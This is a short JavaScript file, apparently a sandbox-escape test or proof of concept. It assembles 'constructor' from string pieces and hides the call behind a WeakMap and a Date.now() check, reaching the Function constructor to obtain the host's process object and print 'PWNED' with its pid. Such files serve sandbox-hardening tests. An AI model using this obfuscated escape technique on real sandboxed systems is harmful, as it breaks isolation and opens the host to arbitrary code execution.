'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const key = {};
const m = new WeakMap([[key, t]]);
const o = Date.now() > 1 ? m.get(key) : {};
console.log('PWNED', o.go(fn)('return process')().pid);
